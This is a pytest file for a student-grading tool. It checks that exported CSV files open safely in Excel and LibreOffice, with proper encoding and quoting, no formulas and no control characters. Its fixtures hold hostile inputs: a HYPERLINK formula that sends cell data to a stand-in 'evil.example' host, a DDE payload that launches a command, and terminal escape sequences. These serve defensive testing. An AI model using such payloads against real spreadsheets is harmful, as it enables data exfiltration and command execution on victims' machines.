"""grades.csv and tests.csv open right in a spreadsheet: UTF-8 with a BOM, quoted as RFC 4180 has it, no cell
a spreadsheet would run as a formula, no control character from a student's program. Checked by a reader that
looks at the bytes as Excel does, and, where LibreOffice is installed, by LibreOffice itself."""

from __future__ import annotations

import codecs
import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from ticketrail import config
from ticketrail.grading import exports, runner
from ticketrail.grading.classview import ClassView
from ticketrail.grading.exports import grades_csv, write_class
from ticketrail.grading.records import ExerciseRecord, Record
from ticketrail.textsafe import FORMULA_STARTS, cell, clean

from helpers import KIT

CONFIG = config.load(KIT / "grading.yml")
SPEC = CONFIG.exercise("01")
TESTS = list(SPEC.tests)

# Names as they come: an LMS download, a comma, a quote, accents, and the ones that attack.
STUDENTS = {
    "Kim Nguyễn_302117_assignsubmission_file_": "Kim Nguyễn",
    "O'Brien, Liam": "O'Brien, Liam",
    'Jo "JJ" Jones': 'Jo "JJ" Jones',
    "=HYPERLINK(\"evil.example?\"&A1,\"click\")": None,
    "+1-555-0100": None,
    "@SUM(1+1)": None,
    "-2+3": None,
}
HOSTILE_OUTPUT = "Traceback:\n\x1b[31mboom\x1b[0m\x07 and a NUL \x00 here\r\nand =1+1 inside"


def result_for(failing: set[str], message: str) -> runner.ExerciseResult:
    tests = [runner.TestResult(name, "failed" if name in failing else "passed", 0.0 if name in failing else spec.points,
                        spec.points, spec.visibility, 1.25, message if name in failing else "")
             for name, spec in SPEC.tests.items()]
    return runner.ExerciseResult("01", SPEC.title, "graded", tests, duration=31.0)


@pytest.fixture
def view() -> ClassView:
    records = {}
    for index, student in enumerate(STUDENTS):
        failing = set(TESTS[:index % 3 + 1])
        message = HOSTILE_OUTPUT if index == 0 else "=cmd|' /C calc'!A0"
        record = Record(student, student, "folder", problems=["zip entry '\x1b]0;pwned\x07' refused"])
        record.exercises["01"] = ExerciseRecord("key", result_for(failing, message), "01", {"app.py": "0" * 64})
        records[student] = record
    return ClassView(CONFIG, list(STUDENTS), records, ["01"])


def open_as_a_spreadsheet_would(data: bytes) -> list[list[str]]:
    """Read CSV bytes as Excel does on opening: UTF-8 only when a BOM says so (else the local code page),
    fields per RFC 4180. Fails, for a learner of CSV, on each thing that would show wrong."""
    assert data.startswith(codecs.BOM_UTF8), (
        "The CSV does not start with a UTF-8 byte order mark, so Excel reads it in the local code page and "
        f"'Nguyễn' shows as 'Nguyá»…n'. It starts with {data[:8]!r}.")
    text = data[len(codecs.BOM_UTF8):].decode("utf-8")
    assert "\ufeff" not in text, "A second byte order mark is inside the file: a spreadsheet shows it as a character."
    lines_ends = re.findall(r"\r\n|\n", text)
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert rows, "The CSV is empty."
    width = len(rows[0])
    for number, row in enumerate(rows, 1):
        assert len(row) == width, (
            f"Row {number} has {len(row)} cells; the header has {width}. A comma or quote in a name or message "
            f"was not quoted: {row}")
        for column, value in enumerate(row):
            assert not value.startswith(FORMULA_STARTS), (
                f"Row {number}, column {rows[0][column]!r} starts with {value[:1]!r}: a spreadsheet runs "
                f"{value[:40]!r} as a formula. Text cells go through textsafe.cell.")
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", value.replace("\r\n", "\n")), (
                f"Row {number}, column {rows[0][column]!r} holds a control character: {value[:80]!r}. "
                "Text from a submission goes through textsafe.clean.")
    assert lines_ends and lines_ends[-1] == "\r\n", "Rows end in LF; RFC 4180 and Excel expect CR LF."
    return rows


def by_header(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_clean_makes_every_control_character_visible_and_keeps_the_text():
    assert clean("a\x1b[31mb\x07c\x00d") == "a␛[31mb␇c␀d"
    assert clean("line\r\nnext\ttab") == "line\nnext\ttab"
    assert clean("left\u202eright\x9b") == "left\\u202eright\\x9b"
    assert clean(clean("\x1b")) == clean("\x1b")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1+1"])
def test_a_cell_that_would_be_a_formula_starts_with_an_apostrophe(text):
    assert cell(text) == "'" + clean(text), f"cell({text!r}) gave {cell(text)!r}: a spreadsheet would run it"


def test_a_cell_starting_with_a_carriage_return_shows_it_and_is_no_formula():
    assert cell("\r=1") == "␍=1"


def test_a_plain_cell_is_left_as_it_is():
    assert cell("Kim Nguyễn") == "Kim Nguyễn" and cell("O'Brien, Liam") == "O'Brien, Liam" and cell("") == ""


def test_grades_csv_opens_as_a_spreadsheet_with_every_name_intact(view):
    rows = by_header(open_as_a_spreadsheet_would(grades_csv(view).encode("utf-8")))
    assert [row["student"] for row in rows] == [cell(student) for student in STUDENTS]
    names = {row["student"]: row["name"] for row in rows}
    for student, name in STUDENTS.items():
        if name is not None:
            assert names[student] == name, f"{student}: the name column shows {names[student]!r}, not {name!r}"
    assert names[cell("=HYPERLINK(\"evil.example?\"&A1,\"click\")")].startswith("'=HYPERLINK")
    moodle = next(row for row in rows if row["student"].startswith("Kim"))
    assert moodle["id"] == "302117", f"the Moodle id is not in the id column: {moodle}"


def test_tests_csv_opens_as_a_spreadsheet_with_student_output_made_visible(view):
    rows = by_header(open_as_a_spreadsheet_would(exports.tests_csv(view).encode("utf-8")))
    messages = [row["message"] for row in rows if row["message"]]
    hostile = next(message for message in messages if "boom" in message)
    assert "␛[31mboom" in hostile and "␇" in hostile and "␀" in hostile and "=1+1 inside" in hostile, hostile
    assert any(message.startswith("'=cmd|") for message in messages), messages


def test_the_spreadsheet_reader_catches_what_it_is_meant_to_catch():
    for bad, words in [(b"student\r\nKim\r\n", "byte order mark"),
                       (codecs.BOM_UTF8 + b"student,total\r\n=1+1,3\r\n", "as a formula"),
                       (codecs.BOM_UTF8 + b"student,total\r\nO'Brien, Liam,3\r\n", "was not quoted"),
                       (codecs.BOM_UTF8 + b"student\r\n\x1b[31mKim\r\n", "control character"),
                       (codecs.BOM_UTF8 + b"student\nKim\n", "CR LF")]:
        with pytest.raises(AssertionError, match=words):
            open_as_a_spreadsheet_would(bad)


def test_feedback_and_results_hold_no_raw_control_character(view, tmp_path):
    write_class(tmp_path, view)
    for path in [*tmp_path.glob("feedback/*"), *tmp_path.glob("results/*.json"), tmp_path / "report.html"]:
        text = path.read_text(encoding="utf-8")
        raw = re.findall(r"[\x00-\x08\x0b-\x1f\x7f]", text.replace("\r\n", "\n"))
        assert not raw, f"{path.relative_to(tmp_path)} holds raw control characters {sorted(set(raw))!r}"
        assert "\\u001b" not in text, f"{path.relative_to(tmp_path)} holds an escaped ESC that a viewer would decode"


# --- LibreOffice, where it is installed --------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def libreoffice_cells(csv_path: Path, tmp_path: Path) -> list[tuple[str, bool]]:
    """Open the CSV in LibreOffice with its import defaults, save it as xlsx, and list each cell's text and
    whether LibreOffice made it a formula. Headless conversion reads the system's charset where the import
    dialog detects the BOM, so UTF-8 is named here (44 comma, 34 quote, 76 UTF-8, from line 1); the BOM
    itself is checked by open_as_a_spreadsheet_would."""
    profile = tmp_path / "lo-profile"
    done = subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                           "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
                           str(csv_path)],
                          capture_output=True, text=True, timeout=180)
    book = tmp_path / (csv_path.stem + ".xlsx")
    assert book.exists(), f"LibreOffice did not convert {csv_path.name}: {done.stdout}{done.stderr}"
    with zipfile.ZipFile(book) as archive:
        shared = archive.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in \
            archive.namelist() else ""
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    strings = [re.sub(r"<[^>]+>", "", item) for item in re.findall(r"<si>(.*?)</si>", shared, re.S)]
    cells = []
    for attributes, body in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", sheet, re.S):
        value = re.search(r"<v>(.*?)</v>", body or "")
        text = value.group(1) if value else ""
        if 't="s"' in attributes and value:
            text = strings[int(text)]
        cells.append((unescape_xml(text), re.search(r"<f[ >]", body or "") is not None))
    return cells


def unescape_xml(text: str) -> str:
    return (text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&apos;", "'")
            .replace("&amp;", "&"))


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_runs_an_unguarded_cell_as_a_formula(tmp_path):
    path = tmp_path / "unguarded.csv"
    path.write_bytes(codecs.BOM_UTF8 + b"student,total\r\n=1+1,'=2+2\r\n")
    cells = libreoffice_cells(path, tmp_path)
    assert ("2", True) in cells and ("'=2+2", False) in cells, (
        f"LibreOffice no longer runs =1+1 as a formula, so the checks below prove nothing: {cells}")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_opens_grades_csv_with_names_intact_and_no_formula(view, tmp_path):
    path = tmp_path / "grades.csv"
    path.write_text(grades_csv(view), encoding="utf-8", newline="")
    cells = libreoffice_cells(path, tmp_path)
    formulas = [text for text, is_formula in cells if is_formula]
    assert not formulas, f"LibreOffice made formulas of these cells of grades.csv: {formulas}"
    texts = {text for text, _ in cells}
    for name in ("Kim Nguyễn", "O'Brien, Liam", 'Jo "JJ" Jones'):
        assert name in texts, f"{name!r} is not a cell as LibreOffice opened grades.csv: {sorted(texts)[:40]}"
    assert not any("evil.example" in text and not text.startswith(("'", "=")) for text in texts)


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_opens_tests_csv_with_multiline_messages_in_one_cell(view, tmp_path):
    path = tmp_path / "tests.csv"
    path.write_text(exports.tests_csv(view), encoding="utf-8", newline="")
    cells = libreoffice_cells(path, tmp_path)
    assert not [text for text, is_formula in cells if is_formula]
    hostile = [text for text, _ in cells if "boom" in text]
    assert hostile and all("and =1+1 inside" in text for text in hostile), hostile
